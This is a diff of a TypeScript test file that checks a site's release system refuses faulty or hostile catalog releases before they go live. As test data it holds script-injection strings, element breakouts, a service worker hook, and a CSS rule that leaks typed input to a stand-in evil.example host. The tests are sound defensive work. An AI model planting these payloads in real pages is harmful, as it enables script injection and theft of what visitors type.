@@ -1,8 +1,11 @@
+import { appendFile, readFile, rm } from 'node:fs/promises'
+import path from 'node:path'
 import { sha256 } from '@platform/base/durable/digest'
+import { exists } from '@platform/base/durable/durable'
+import { listFiles } from '@platform/base/testing/list-files'
 import { catalogFixture, type Fixture, hostFixture, pageBundle } from '@platform/release/testing/fixture-release'
 import { pageCalls } from '@site/shared/contracts/calls'
 import { checkActivation } from '../queries/check-activation'
-import { hostileReleases } from '../testing/hostile-pages'
 import { createTestSite, type TestSite } from '../testing/test-site'
 
 // Such releases rendered, went live and broke at the first click or payment.
@@ -17,23 +20,27 @@ beforeAll(async () => {
 beforeEach(async () => {
   site = await live.duplicate()
 })
-
 afterEach(() => site.remove())
 afterAll(() => live.remove())
 
 const ui = '@site/shared/ui'
+const location = 'catalog/src/courses/course-card.tsx:4'
+const dialog = 'export declare function Dialog(props: { title: string }): string\n'
+const renamed = 'export declare function Dialog(props: { heading: string }): string\n'
 const types = (text: string) => ({
   entries: { [ui]: 'ui/index.d.ts' },
   files: { 'ui/index.d.ts': text },
   digest: sha256(text),
 })
-const noTypes = { entries: {}, files: {}, digest: sha256('') }
-const noStyles = { properties: {}, layers: {} }
-const dialog = 'export declare function Dialog(props: { title: string }): string\n'
-const renamed = 'export declare function Dialog(props: { heading: string }): string\n'
-
-const uses = (names: Record<string, string>, text = dialog): Fixture => ({
-  requires: { names: { [ui]: names }, types: types(text), styles: noStyles },
+const uses = (name: string): Fixture => ({
+  requires: { names: { [ui]: { [name]: location } }, types: types(dialog), styles: { properties: {}, layers: {} } },
+})
+const styled = (rules: object): Fixture => ({
+  requires: {
+    names: {},
+    types: { entries: {}, files: {}, digest: sha256('') },
+    styles: { properties: {}, layers: {}, ...rules },
+  },
 })
 const shares = (names: string[], text = dialog): Fixture =>
   hostFixture({
@@ -44,8 +51,23 @@ const shares = (names: string[], text = dialog): Fixture =>
       styles: { properties: [], layers: [] },
     },
   })
-const courses = (prices: unknown) => ({ courses: [{ id: 1, title: 'First Aid', prices, duration: '1 Day' }] })
-const showing = (html: string): Fixture => ({ content: { 'server/courses-page.cjs': pageBundle(`'${html}'`) } })
+const ofCourse = (prices: unknown) => ({ id: 1, title: 'First Aid', prices, duration: '1 Day' })
+const selling = (...courses: unknown[]): Fixture => ({ data: { courses } })
+const rendering = (expression: string): Fixture => ({
+  content: { 'server/courses-page.cjs': pageBundle(expression) },
+})
+const showing = (html: string) => rendering(JSON.stringify(`<h1>Courses</h1>${html}`))
+const withPage = (address: string): Fixture => ({
+  pages: [...(catalogFixture().pages ?? []), { module: './courses-page', path: address }],
+})
+const page = (more: object): Fixture => ({ pages: [{ module: './courses-page', path: '/courses', ...more }] })
+const loading = (...hosts: string[]) => page({ contentSecurityPolicy: { 'script-src': hosts } })
+const file = (name: string, content: string): Fixture => ({ content: { [name]: content } })
+const styles = (css: string) => file('client/courses.css', css)
+const code = (text: string) => file('server/courses-page.cjs', text)
+const login = 'POST /api/auth/login'
+const properties = { email: { type: 'string' }, code: { type: 'string' } }
+const sends = { ...pageCalls[login].accepts, properties }
 
 async function release(catalog: Fixture, host?: Fixture): Promise<unknown> {
   if (host) await site.publish(host)
@@ -53,166 +75,169 @@ async function release(catalog: Fixture, host?: Fixture): Promise<unknown> {
   return site.activate({ catalog: '0.2.0', ...(host && { shell: '0.2.0' }) })
 }
 
-const location = 'catalog/src/courses/course-card.tsx:4'
+const state = async () => ({
+  pointer: await readFile(site.copy.current, 'utf8'),
+  files: (await listFiles(site.copy.compositions)).sort(),
+})
 
-describe('a release that does not fit is refused before a visitor can meet it', () => {
-  it.each<[string, Fixture, Fixture | undefined, RegExp]>([
+describe('a release is refused by name before a visitor can meet it, and nothing changes, for', () => {
+  it.each<[string, Fixture, RegExp, Fixture?]>([
     [
-      'a shared name that the live shell does not export',
-      uses({ Notice: location }),
+      'a shared name that the shell does not export',
+      uses('Notice'),
+      /catalog@0\.2\.0 uses Notice of @site\/shared\/ui \(catalog\/src\/courses\/course-card\.tsx:4\), which shell@0\.2\.0 does not export; it exports Button, Dialog\. Activate a shell/,
       shares(['Button', 'Dialog']),
-      /catalog@0\.2\.0 uses Notice of @site\/shared\/ui \(catalog\/src\/courses\/course-card\.tsx:4\), which shell@0\.2\.0 does not export; it exports Button, Dialog\. Activate a shell that exports Notice/,
     ],
+    ['a module that the shell does not share', uses('Dialog'), /uses @site\/shared\/ui .* does not share/],
     [
-      'a shared module that the shell does not share',
-      uses({ Dialog: location }),
-      undefined,
-      /uses @site\/shared\/ui .* does not share/,
-    ],
-    [
-      'a shared part whose type is another now',
-      uses({ Dialog: location }),
+      'a shared part of another type',
+      uses('Dialog'),
+      /uses Dialog .* in shell@0\.2\.0 "heading" is required now/,
       shares(['Dialog'], renamed),
-      /catalog@0\.2\.0 uses Dialog of @site\/shared\/ui .* in shell@0\.2\.0 "heading" is required now/,
     ],
     [
       'a custom property nobody defines',
-      {
-        requires: {
-          names: {},
-          types: noTypes,
-          styles: { ...noStyles, properties: { '--site-colour-new': 'catalog/src/a.module.css:3' } },
-        },
-      },
-      undefined,
-      /catalog@0\.2\.0 uses var\(--site-colour-new\) without a fallback \(catalog\/src\/a\.module\.css:3\), but :root of shell@0\.1\.0/,
+      styled({ properties: { '--site-colour-new': 'catalog/src/a.module.css:3' } }),
+      /uses var\(--site-colour-new\) without a fallback \(catalog\/src\/a\.module\.css:3\), but :root of shell@0\.1\.0/,
     ],
     [
       'a layer nobody orders',
-      {
-        requires: {
-          names: {},
-          types: noTypes,
-          styles: { ...noStyles, layers: { widgets: 'catalog/src/a.module.css:1' } },
-        },
-      },
-      undefined,
-      /puts rules into the layer widgets .* it has page/,
+      styled({ layers: { widgets: 'catalog/src/a.module.css:1' } }),
+      /into the layer widgets .* it has page/,
     ],
+    ['a missing module', { exposes: ['./other-page'], pages: [] }, /routes to catalog\/courses-page, which no live/],
+    ['another React', { shared: { react: { range: '^20.0.0' } } }, /needs react \^20.0.0, but shell@0.1.0 shares 19/],
+    ['another contract', { contract: 2 }, /catalog@0.2.0 follows contract 2, but shell@0.1.0 follows 1/],
+    ['a page without a route', withPage('/offers'), /page \/offers .* shell@0\.1\.0 has no route: it would/],
+    ['a page of another route', withPage('/about'), /but shell@0\.1\.0 routes it to shell\/about-page/],
+    ['a route without a page', { pages: [] }, /routes \/courses to catalog\/courses-page, but no release brings a/],
     [
-      'a page without a route',
-      { pages: [...(catalogFixture().pages ?? []), { module: './courses-page', path: '/offers' }] },
-      undefined,
-      /catalog@0\.2\.0 brings the page \/offers of \.\/courses-page, for which shell@0\.1\.0 has no route: it would be empty/,
+      'a fallback of the API',
+      page({ fallback: { below: '/api/payments', status: 404 } }),
+      /\(fallback\) is an address of the origin/,
     ],
-    [
-      'a page that the shell routes to another module',
-      { pages: [...(catalogFixture().pages ?? []), { module: './courses-page', path: '/about' }] },
-      undefined,
-      /\/about of \.\/courses-page, but shell@0\.1\.0 routes it to shell\/about-page/,
-    ],
-    [
-      'a route without a page',
-      { pages: [] },
-      undefined,
-      /routes \/courses to catalog\/courses-page, but no release brings a page there/,
-    ],
-    [
-      'a fallback that takes the API',
-      { pages: [{ module: './courses-page', path: '/courses', fallback: { below: '/api/payments', status: 404 } }] },
-      undefined,
-      /\/api\/payments of catalog@0\.2\.0 \(fallback\) is an address of the origin itself/,
-    ],
-    [
-      'a page that hides the metrics',
-      { pages: [{ module: './courses-page', path: '/metrics' }] },
-      undefined,
-      /\/metrics of catalog@0\.2\.0 \(page\)/,
-    ],
-    [
-      'a public file that hides the probe',
-      { content: { 'public/servez': 'ok' } },
-      undefined,
-      /\/servez of catalog@0\.2\.0 \(public file\)/,
-    ],
-    [
-      'a price list without prices',
-      { data: courses([]) },
-      undefined,
-      /catalog@0\.2\.0 has a price list the API cannot use: data\/courses\/0\/prices/,
-    ],
-    ['no price list', { data: {} }, undefined, /price list the API cannot use: data/],
-    [
-      'a course twice',
-      { data: { courses: [...courses([1]).courses, ...courses([2]).courses] } },
-      undefined,
-      /has course 1 twice/,
-    ],
-    [
-      'a price on a page that nobody can pay',
-      showing('<h1>Courses</h1>£1,249.50'),
-      undefined,
-      /\/courses of catalog\/courses-page \(catalog@0\.2\.0\) shows £1249\.5, which is in no course/,
-    ],
-    [
-      'a page without content',
-      showing('<span></span><style>a{}</style>'),
-      undefined,
-      /\/courses of catalog\/courses-page \(catalog@0\.2\.0\) has an empty <main>/,
-    ],
+    ['a page that hides the metrics', page({ path: '/metrics' }), /\/metrics of catalog@0\.2\.0 \(page\)/],
+    ['a file that hides the probe', file('public/servez', 'ok'), /\/servez of catalog@0\.2\.0 \(public file\)/],
+    ['a file of the origin', file('public/.well-known/assetlinks.json', '[]'), /is an address of the origin itself/],
+    ['no prices', selling(ofCourse([])), /a price list the API cannot use: data\/courses\/0\/prices/],
+    ['no price list', { data: {} }, /price list the API cannot use: data/],
+    ['a course twice', selling(ofCourse([1]), ofCourse([2])), /has course 1 twice/],
+    ['a price that nobody can pay', showing('£1,249.50'), /\(catalog@0\.2\.0\) shows £1249\.5, which is in no course/],
+    ['a page without content', rendering('""'), /\(catalog@0\.2\.0\) has an empty <main>/],
     [
       'a field that the API does not know',
-      {
-        calls: {
-          'POST /api/auth/login': {
-            sends: {
-              ...pageCalls['POST /api/auth/login'].accepts,
-              properties: { email: { type: 'string' }, code: { type: 'string' } },
-            },
-            reads: {},
-            readsRefusal: {},
-          },
-        },
-      },
-      undefined,
+      { calls: { [login]: { sends, reads: {}, readsRefusal: {} } } },
       /catalog@0\.2\.0 sends POST \/api\/auth\/login with the field "code" that is an unknown field, which the API refuses/,
     ],
-  ])('%s', async (_what, catalog, host, reason) => {
+    [
+      'a page that throws',
+      rendering(`{ throw new Error('found 1') }`),
+      /page \/courses of catalog\/courses-page: Error: found 1\n +at .*\(catalog@0\.2\.0\/server\/courses-page\.cjs:1:\d+\)/,
+    ],
+    ['a module that throws', code('throw new Error("broken")'), /courses-page: Error: broken/],
+    ['a page that logs an error', rendering('console.error("bad %s", "key")'), /console.error was called: bad key/],
+    ['a page that fails after its turn', rendering('{ Promise.reject(new Error("later")); return "" }'), /later/],
+    ['a page that looks for secrets', rendering('process.env.SECRET'), /ReferenceError: process is not defined/],
+    ['code that asks for Node', rendering('require("node:fs")'), /asks for "node:fs", which the host does not provide/],
+    [
+      'a host that asks for Node',
+      {},
+      /shell asks for "node:fs"/,
+      hostFixture({ version: '0.2.0', content: { 'server/index.cjs': 'require("node:fs")' } }),
+    ],
+    // The rules of compose refuse 50 more kinds of active content.
+    ['an inline script', showing('<script>steal()</script>'), /has an inline script/],
+    [
+      'data that breaks out of its element',
+      page({ structuredData: [{ '@type': 'Organization', name: '</script><script>steal()</script>' }] }),
+      /has an inline script that the shell does not declare/,
+    ],
+    [
+      'another configuration',
+      showing('<script type="application/json" id="site-config">{"remotes":{}}</script>'),
+      /the id "site-config" of the document’s own data/,
+    ],
+    [
+      'styles that break out of their element',
+      styles('.a{content:"</STYLE><script>steal()</script>"}'),
+      /has an inline style that is no style sheet of the page/,
+    ],
+    [
+      'styles that load others',
+      styles('@import "https://evil.example/x.css";.a{color:red}'),
+      /has a style sheet, \/assets\/catalog\/courses\.\w+\.css, that loads another style sheet/,
+    ],
+    [
+      'styles that report what is typed',
+      styles('input[value^=a]{background:u\\72l(https://evil.example/a)}'),
+      /has a style sheet, .*, that loads https:\/\/evil\.example\/a, of another host/,
+    ],
+    ['a page beside the shell', file('public/offers.html', '<script/>'), /offers\.html .* could run beside/],
+    ['a service worker', file('public/sw.js', 'onfetch=steal'), /sw\.js .* \(public file\) could run/],
+    ['a policy of Trusted Types', { trustedTypes: ['default'] }, /declares the Trusted Types policy "default"/],
+    [
+      'a host that the site does not grant',
+      loading('https://js.evil.example'),
+      /would let \/courses reach https:\/\/js\.evil\.example .*: site hosts allow catalog https:\/\/js\.evil\.example --for script-src/,
+    ],
+    ...['*', 'https:', "'unsafe-inline'"].map((host): [string, Fixture, RegExp] => [
+      `scripts from ${host}`,
+      loading(host),
+      /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
+    ]),
+  ])('%s', async (_what, catalog, reason, ...[host]) => {
+    const before = await state()
     await expect(release(catalog, host)).rejects.toThrow(reason)
+    expect(await state()).toEqual(before)
+    if (host || !(await exists(site.copy.release('catalog', '0.2.0')))) return
+    const { problems } = await checkActivation(site.copy, { catalog: '0.2.0' }, site.limits)
+    expect(problems.join('\n')).toMatch(reason)
+    expect(problems.join('\n')).not.toContain(site.copy.root)
+  })
+})
+
+describe('an activation is refused for', () => {
+  it.each<[string, () => Promise<unknown>, string]>([
+    [
+      'a file changed in the registry',
+      async () => {
+        await site.publish(catalogFixture({ version: '0.2.0' }))
+        await appendFile(path.join(site.copy.release('catalog', '0.2.0'), 'server/courses-page.cjs'), ' ')
+        await site.activate({ catalog: '0.2.0' })
+      },
+      'does not match its digest',
+    ],
+    ['a release that is not published', () => site.activate({ catalog: '7.0.0' }), 'catalog@7.0.0 is not published'],
+    [
+      'a site without settings',
+      () => rm(site.copy.settings).then(() => site.activate({ catalog: 'latest' })),
+      'The site has no settings yet',
+    ],
+    [
+      'a first activation without a host',
+      () => rm(site.copy.current).then(() => site.activate({ catalog: 'latest' })),
+      'exactly one host, not 0',
+    ],
+  ])('%s', async (_what, activate, message) => {
+    await expect(activate()).rejects.toThrow(message)
+    expect((await site.copy.readPointer())?.live ?? 1).toBe(1)
   })
 })
 
 describe('a release that fits goes live', () => {
-  it.each<[string, Fixture, Fixture | undefined]>([
+  it.each<[string, Fixture, Fixture?]>([
     [
       'with shared parts that grew',
-      uses({ Dialog: location }),
+      uses('Dialog'),
       shares(['Dialog', 'Notice'], dialog.replace('string }', 'string; wide?: boolean }')),
     ],
-    ['with a price of the list', showing('<h1>Courses</h1>£129.00'), undefined],
+    ['with a price of the list', showing('£129.00')],
     [
       'with a contract that the shell still serves',
       { contract: 1 },
       { ...hostFixture({ version: '0.2.0' }), contract: 2, supports: [1, 2] },
     ],
-  ])('%s', async (_what, catalog, host) => {
+  ])('%s', async (_what, catalog, ...[host]) => {
     expect(await release(catalog, host)).toMatchObject({ outcome: 'activated' })
-  })
-})
-
-describe('a release that would get something onto a page is refused by name, and nothing changes', () => {
-  it.each(Object.entries(hostileReleases))('%s', async (_name, { fixture, refusal }) => {
-    const refusals: string[] = []
-    const refusing = async (work: () => Promise<unknown>) => {
-      await work().catch((error: Error) => refusals.push(error.message))
-    }
-    await refusing(() => site.publish(fixture))
-    if (refusals.length === 0) {
-      const { problems } = await checkActivation(site.copy, { catalog: '0.2.0' }, site.limits)
-      expect(problems.join('\n')).toMatch(refusal)
-      await refusing(() => site.activate({ catalog: '0.2.0' }))
-    }
-    expect(refusals.join('\n')).toMatch(refusal)
-    expect(await site.copy.readPointer()).toMatchObject({ live: 1, history: [] })
   })
 })
